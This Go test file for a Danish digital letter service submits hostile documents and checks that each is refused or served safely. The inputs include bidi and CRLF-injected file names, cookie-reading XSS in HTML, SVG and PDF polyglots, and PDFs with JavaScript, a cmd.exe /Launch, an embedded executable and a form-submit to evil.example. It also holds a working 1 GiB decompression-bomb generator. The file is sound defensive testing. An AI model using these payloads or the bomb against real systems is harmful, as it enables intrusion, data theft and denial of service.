package main

import (
	"bytes"
	"compress/flate"
	"compress/zlib"
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/google/uuid"
	pdfapi "github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
)

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// documentLetter submits, as the documents' sender, a letter to Anna with one document.
func (w *world) documentLetter(messageID, filename, contentType string, content []byte, digitalOnly bool) reply {
	return w.api(w.keyDocs, http.MethodPost, "/v1/letters", mustJSON(map[string]any{"message_id": messageID, "recipient_cpr": w.anna.CPR,
		"subject": "Bilag", "text": "Se bilag.", "digital_only": digitalOnly,
		"documents": []map[string]string{{"filename": filename, "content_type": contentType, "content": b64(content)}}}))
}

func (w *world) written(ctx context.Context, messageIDs ...string) int {
	return w.count(ctx, `SELECT count(*) FROM letters WHERE sender_id = 'dokument' AND message_id = ANY($1)`, messageIDs)
}

func badFileNames(ctx context.Context, w *world) (string, string, string, bool) {
	names := map[string]string{"bidi": "Årsopgørelse\u202Efdp.exe", "crlf": "brev.pdf\r\nContent-Type: text/html", "10kB": strings.Repeat("a", 10_000) + ".pdf"}
	var got, ids []string
	held := true
	for _, k := range []string{"bidi", "crlf", "10kB"} {
		r := w.documentLetter("name-"+k, names[k], "application/pdf", handmadePDF("", ""), true)
		got = append(got, k+" "+r.String())
		ids = append(ids, "name-"+k)
		held = held && r.status == http.StatusUnprocessableEntity
	}
	n := w.written(ctx, ids...)
	return "digital-only letter with a document named with U+202E, with CR/LF, 10 kB long", strings.Join(got, ", "),
		fmt.Sprintf("letters written %d", n), held && n == 0
}

// polyglots: a document that is a page in disguise is refused, or handed out so that it can
// never run as a page of this site: an attachment, not HTML, in a sandbox.
func polyglots(ctx context.Context, w *world) (string, string, string, bool) {
	docs := []struct{ name, ctype, content string }{
		{"side.html", "text/html", "<html><body><script>alert(document.cookie)</script></body></html>"},
		{"billede.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>`},
		{"brev.pdf", "application/pdf", "%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF"},
	}
	var got []string
	held := true
	for i, d := range docs {
		r := w.documentLetter(fmt.Sprintf("poly-%d", i), d.name, d.ctype, []byte(d.content), true)
		if r.status == http.StatusUnprocessableEntity {
			got = append(got, d.name+" refused 422")
			continue
		}
		id, err := uuid.Parse(jsonField(r.body, "id"))
		if r.status != http.StatusCreated || err != nil {
			got, held = append(got, d.name+" "+r.String()), false
			continue
		}
		eventually(ctx, 30*time.Second, func() bool { _, ok := w.mailboxEntry(ctx, id); return ok })
		doc := w.page(w.annaSession, "/breve/"+id.String()+"/dokumenter/1")
		ct, cd, csp := doc.header.Get("Content-Type"), doc.header.Get("Content-Disposition"), doc.header.Get("Content-Security-Policy")
		safe := doc.status == 200 && strings.HasPrefix(cd, "attachment") && strings.Contains(csp, "sandbox") &&
			!strings.Contains(ct, "html") && !strings.Contains(ct, "svg") && doc.header.Get("X-Content-Type-Options") == "nosniff"
		got = append(got, fmt.Sprintf("%s accepted, served %d as %q, %q", d.name, doc.status, ct, strings.SplitN(cd, ";", 2)[0]))
		held = held && safe
	}
	return "digital-only letters with an HTML, an SVG and a PDF-HTML polyglot document", strings.Join(got, "; "), "none", held
}

// activePDFs are PDFs that act when opened: scripts, launches, forms that send, files inside.
func activePDFs() []struct {
	name string
	pdf  []byte
} {
	return []struct {
		name string
		pdf  []byte
	}{
		{"/JS", handmadePDF("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "")},
		{"/Java#53cript", handmadePDF("/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>", "")},
		{"/AA", handmadePDF("", "/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>")},
		{"/Launch", handmadePDF("/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>", "")},
		{"XFA", handmadePDF("/AcroForm << /Fields [] /XFA 4 0 R >>", "", pdfStream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>`))},
		{"/SubmitForm", handmadePDF("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>", "")},
		{"/EmbeddedFiles", handmadePDF("/Names << /EmbeddedFiles << /Names [(faktura.exe) 4 0 R] >> >>", "",
			"<< /Type /Filespec /F (faktura.exe) /EF << /F 5 0 R >> >>", pdfStream("MZ-not-really"))},
	}
}

func activePDFsRefused(digitalOnly bool) func(context.Context, *world) (string, string, string, bool) {
	return func(ctx context.Context, w *world) (string, string, string, bool) {
		var passed, ids []string
		list := activePDFs()
		for i, p := range list {
			id := fmt.Sprintf("pdf-%t-%d", digitalOnly, i)
			ids = append(ids, id)
			if r := w.documentLetter(id, "brev.pdf", "application/pdf", p.pdf, digitalOnly); r.status != http.StatusUnprocessableEntity {
				passed = append(passed, fmt.Sprintf("%s %s", p.name, r))
			}
		}
		got := fmt.Sprintf("422 for all %d", len(list))
		if len(passed) > 0 {
			got = fmt.Sprintf("422 for %d of %d; not: %s", len(list)-len(passed), len(list), strings.Join(passed, ", "))
		}
		kind := "a letter that may be printed"
		if digitalOnly {
			kind = "a digital-only letter"
		}
		n := w.written(ctx, ids...)
		// The control: the same PDF without the active part is taken.
		ctl := w.documentLetter(fmt.Sprintf("pdf-control-%t", digitalOnly), "brev.pdf", "application/pdf", handmadePDF("", ""), digitalOnly)
		return fmt.Sprintf("%s with a PDF holding /JS, /Java#53cript, /AA, /Launch, XFA, /SubmitForm, /EmbeddedFiles (control: a plain PDF, %s)", kind, ctl),
			got, fmt.Sprintf("letters written %d", n), len(passed) == 0 && n == 0 && ctl.status == http.StatusCreated
	}
}

func deeplyNestedPDF(ctx context.Context, w *world) (string, string, string, bool) {
	pdf := handmadePDF("/Nest "+strings.Repeat("[", 200)+strings.Repeat("]", 200)+" /Deep "+strings.Repeat("<< /A ", 200)+strings.Repeat(">> ", 200), "")
	r := w.documentLetter("nested", "brev.pdf", "application/pdf", pdf, false)
	n := w.written(ctx, "nested")
	return "a printable letter with a PDF whose catalog nests arrays and dictionaries 200 deep", r.String(),
		fmt.Sprintf("letters written %d", n), r.status == http.StatusUnprocessableEntity && n == 0
}

// statisticsLeaveLettersFlowing: anyone may ask for the statistics; fifty at once must not
// hold up a letter.
func statisticsLeaveLettersFlowing(ctx context.Context, w *world) (string, string, string, bool) {
	p, err := w.citizen(ctx, "Statistik Modtager")
	if err != nil {
		return "statistics", err.Error(), "", false
	}
	codes := make(chan int, 50)
	for range 50 {
		go func() { codes <- send(http.MethodGet, w.base+"/statistik", nil).status }()
	}
	start := time.Now()
	r := w.api(w.keyA, http.MethodPost, "/v1/letters", mustJSON(map[string]string{"message_id": "during-statistics", "recipient_cpr": p.CPR, "subject": "Hej", "text": "Hej."}))
	id, _ := uuid.Parse(jsonField(r.body, "id"))
	delivered := r.status == http.StatusCreated && eventually(ctx, 15*time.Second, func() bool { _, ok := w.mailboxEntry(ctx, id); return ok })
	took := time.Since(start)
	count := map[int]int{}
	for range 50 {
		count[<-codes]++
	}
	return "50 anonymous GET /statistik at once while a sender submits a letter",
		fmt.Sprintf("statistics %v; letter %s, in the mailbox after %s", count, r, took.Round(100*time.Millisecond)), "none",
		delivered && took < 15*time.Second
}

// Hostile PDFs: a password, a gigabyte inflated, ten million objects. Each is refused, and
// the worker (which serves the API) takes little memory refusing it: its peak resident
// memory (VmHWM, reset before each try) is read from /proc.

// ownerPasswordPDF is a plain one-page PDF encrypted by pdfcpu with AES-256 and an owner
// password only: it opens without a password, but the print house may not change it.
func ownerPasswordPDF() ([]byte, error) {
	var out bytes.Buffer
	conf := model.NewAESConfiguration("", "ejer-hemmelig", 256)
	err := pdfapi.Encrypt(bytes.NewReader(handmadePDF("", "")), &out, conf)
	return out.Bytes(), err
}

// zeroBomb is a zlib stream of size zero bytes, about size/1000 bytes long. It is written
// without compressing size bytes: once the window holds only zeros, the block that encodes
// the next MiB of zeros encodes every later MiB as well, so it is written again and again.
func zeroBomb(size int64) []byte {
	const chunk = 1 << 20
	var out bytes.Buffer
	out.Write([]byte{0x78, 0x9c})
	fw, _ := flate.NewWriter(&out, flate.BestCompression)
	_, _ = fw.Write(make([]byte, chunk))
	_ = fw.Flush()
	mark := out.Len()
	_, _ = fw.Write(make([]byte, chunk))
	_ = fw.Flush()
	again := bytes.Clone(out.Bytes()[mark:])
	n := int64(2 * chunk)
	for ; n < size; n += chunk {
		out.Write(again)
	}
	out.Write([]byte{0x01, 0x00, 0x00, 0xff, 0xff}) // the final block, empty
	// Adler-32 of n zeros: a stays 1, b gains 1 for each byte.
	_ = binary.Write(&out, binary.BigEndian, uint32((n%65521)<<16|1))
	return out.Bytes()
}

// tenMillionObjects declares ten million objects twice over: in the trailer's /Size of a
// classic file, and in the /Size and /Index of a cross-reference stream.
func tenMillionObjects() (trailer, xrefStream []byte) {
	trailer = bytes.Replace(handmadePDF("", ""), []byte("/Size 4 "), []byte("/Size 10000000 "), 1)
	var b, entries bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	entries.Write([]byte{0, 0, 0, 0, 0, 0xff, 0xff})
	for i, o := range []string{"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>"} {
		entries.WriteByte(1)
		_ = binary.Write(&entries, binary.BigEndian, uint32(b.Len()))
		entries.Write([]byte{0, 0})
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	entries.WriteByte(1)
	_ = binary.Write(&entries, binary.BigEndian, uint32(b.Len()))
	entries.Write([]byte{0, 0})
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	_, _ = zw.Write(entries.Bytes())
	_ = zw.Close()
	xref := b.Len()
	fmt.Fprintf(&b, "4 0 obj\n<< /Type /XRef /Size 10000000 /Index [0 10000000] /W [1 4 2] /Root 1 0 R /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream\nendobj\n",
		z.Len(), z.Bytes())
	fmt.Fprintf(&b, "startxref\n%d\n%%%%EOF\n", xref)
	return trailer, b.Bytes()
}

// hostilePDF submits each PDF in a printable letter as the documents' sender and checks that
// each is refused (422), nothing is written, and the worker's peak memory stays within
// memoryBound of what it held before.
func hostilePDF(key, what string, build func() ([][]byte, error)) func(context.Context, *world) (string, string, string, bool) {
	return func(ctx context.Context, w *world) (string, string, string, bool) {
		pdfs, err := build()
		if err != nil {
			return what, "could not make the file: " + err.Error(), "", false
		}
		pid := w.worker.Process.Pid
		var got, ids []string
		held, worst, sizes := true, 0, []string{}
		reset := true
		for i, pdf := range pdfs {
			reset = resetPeak(pid) && reset
			before := peakRSS(pid)
			id := fmt.Sprintf("hostile-%s-%d", key, i)
			ids = append(ids, id)
			r := w.documentLetter(id, "brev.pdf", "application/pdf", pdf, false)
			after := peakRSS(pid)
			worst = max(worst, after-before)
			got = append(got, fmt.Sprintf("%s (%s)", r, short(problemRules(r.body), 90)))
			sizes = append(sizes, fmt.Sprintf("%d kB", len(pdf)>>10))
			held = held && r.status == http.StatusUnprocessableEntity && before > 0 && after-before < memoryBound
		}
		n := w.written(ctx, ids...)
		return fmt.Sprintf("a printable letter with %s (%s)", what, strings.Join(sizes, ", ")), strings.Join(got, "; "),
			fmt.Sprintf("letters written %d; worker's peak RSS rose by at most %d MB (peak reset: %t)", n, worst, reset),
			held && n == 0
	}
}

var (
	encryptedPDF = hostilePDF("encrypted", "a PDF encrypted with an owner password (AES-256, no user password)", func() ([][]byte, error) {
		pdf, err := ownerPasswordPDF()
		if err == nil && !bytes.Contains(pdf, []byte("/Encrypt")) {
			err = fmt.Errorf("pdfcpu wrote no /Encrypt")
		}
		return [][]byte{pdf}, err
	})
	bombPDF = hostilePDF("bomb", "a page whose content stream inflates to 1 GiB (/FlateDecode)", func() ([][]byte, error) {
		bomb := zeroBomb(1 << 30)
		return [][]byte{handmadePDF("", "/Contents 4 0 R", fmt.Sprintf("<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream", len(bomb), bomb))}, nil
	})
	manyObjectsPDF = hostilePDF("objects", "a PDF declaring 10,000,000 objects (trailer /Size; an xref stream's /Size and /Index)", func() ([][]byte, error) {
		a, b := tenMillionObjects()
		return [][]byte{a, b}, nil
	})
)
